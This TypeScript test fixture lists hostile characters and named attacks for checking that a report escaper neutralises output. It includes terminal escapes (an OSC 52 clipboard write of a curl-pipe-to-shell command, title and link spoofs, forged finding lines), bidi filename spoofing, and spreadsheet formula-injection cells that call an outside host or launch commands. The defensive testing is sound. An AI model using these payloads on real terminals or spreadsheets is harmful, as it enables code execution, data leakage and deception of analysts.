/**
 * Hostile strings for output tests: every character a terminal, spreadsheet
 * or log viewer would act on or hide, the attacks built from them (screen
 * clear, OSC 52 clipboard write, OSC 0 window title, a forged finding line),
 * and spreadsheet formulas behind spaces and look-alikes. The definitions
 * here are written out by code point, independently of src/report/escape.ts,
 * so a test that checks output against them checks the implementation.
 */

function range(from: number, to: number): number[] {
  const out: number[] = [];
  for (let c = from; c <= to; c++) out.push(c);
  return out;
}

/** C0 controls, DEL and C1 controls. */
export const CONTROLS: number[] = [...range(0x00, 0x1f), 0x7f, ...range(0x80, 0x9f)];

/** Bidi marks, embeddings, overrides and isolates. */
export const BIDI: number[] = [0x061c, 0x200e, 0x200f, ...range(0x202a, 0x202e), ...range(0x2066, 0x2069)];

/** Characters that render as nothing (or as blank) and hide or join text; the line and paragraph separators. */
export const INVISIBLE: number[] = [
  0x00ad, 0x034f, 0x115f, 0x1160, 0x180e, ...range(0x200b, 0x200d), 0x2028, 0x2029, ...range(0x2060, 0x2064),
  0x2800, 0x3164, ...range(0xfe00, 0xfe0f), 0xfeff, 0xffa0, ...range(0xfff9, 0xfffb), 0xe0001, ...range(0xe0020, 0xe007f),
  0xe0100, 0xe01ef,
];

/** Every code point above, one string each, plus a lone high and a lone low surrogate. */
export function hostileChars(): string[] {
  return [...CONTROLS, ...BIDI, ...INVISIBLE].map((c) => String.fromCodePoint(c)).concat(['\ud800', '\udfff']);
}

const DANGEROUS = new Set<number>([...CONTROLS, ...BIDI, ...INVISIBLE]);

/**
 * The dangerous characters left in `text` (as code point numbers): what no
 * neutralised output may contain. Lone surrogates count as dangerous;
 * `allowed` lists characters a format keeps on purpose (CSV's line ends).
 */
export function dangerousIn(text: string, allowed: string = ''): number[] {
  const found: number[] = [];
  for (let i = 0; i < text.length; i++) {
    const cp = text.codePointAt(i) as number;
    if (cp > 0xffff) i++;
    if (allowed.includes(String.fromCodePoint(cp))) continue;
    const lone = cp >= 0xd800 && cp <= 0xdfff;
    if (lone || DANGEROUS.has(cp) || (cp >= 0xe0000 && cp <= 0xe007f) || (cp >= 0xe0100 && cp <= 0xe01ef)) found.push(cp);
  }
  return found;
}

/** Forged report text: what an attacker would like the analyst's terminal to show. */
export const FORGED_FINDING = 'HIGH   10.66.66.66 -> 203.0.113.66:4444  stratum-v1  pool.evil.example (Evil Pool)';

/** Named attacks for values the other side chooses. */
export const ATTACKS: Record<string, string> = {
  clearScreen: '\x1b[2J\x1b[3J\x1b[H',
  osc52Clipboard: `\x1b]52;c;${Buffer.from('curl http://203.0.113.9/x | sh\n').toString('base64')}\x07`,
  osc0Title: '\x1b]0;poolwatch: nothing found\x07',
  osc8Link: '\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\',
  bell: 'ding\x07\x07',
  carriageReturn: 'XMRig/6.16.0\rLOW    nothing to see',
  forgedLine: `XMRig/6.16.0\n${FORGED_FINDING}\n       - client sent login`,
  separatorLine: `XMRig/6.16.0\u2028${FORGED_FINDING}\u2029`,
  c1Csi: 'a\u009b2Jb\u0085c\u009d0;title\u009c',
  bidiOverride: 'wallet\u202egnp.exe\u202c',
  bidiIsolate: '\u2067evil\u2069\u2066ok\u2069\u200f\u061c',
  zeroWidth: 'xm\u200brig\u200d\ufeff\u2060',
  tagged: `rig\u{e0001}${[...'hidden'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}`,
  nul: 'a\u0000b',
  tabs: 'a\tb\tc',
  loneSurrogate: 'a\ud800b\udc00c',
};

/** Every attack and every hostile character in one string, for a value the other side chose. */
export function everything(): string {
  return Object.values(ATTACKS).join(' ') + ' ' + hostileChars().join('|');
}

/** Unicode spaces a spreadsheet may skip before it reads a formula. */
export const SPACES = ['\u0020', '\u00a0', '\u1680', '\u2000', '\u2007', '\u200a', '\u202f', '\u205f', '\u3000', '\t', '\u00a0\u00a0 '];

/** Characters a spreadsheet reads as a formula start, and their full-width and other look-alikes. */
export const FORMULA_STARTS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\ufe62', '\ufe63', '\ufe66', '\ufe6b', '\u2212', '\u207a', '\u207c'];

/** Cells that must reach a spreadsheet as text. */
export function formulaCells(): string[] {
  const out = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '\n=1', '\u0000=1', '\u0000'];
  for (const start of FORMULA_STARTS) {
    out.push(`${start}1+1`);
    for (const space of SPACES) out.push(`${space}${start}cmd|' /C calc'!A0`);
  }
  out.push('\u200b=1', '\ufeff=1', ' \u202e=1');
  return out;
}
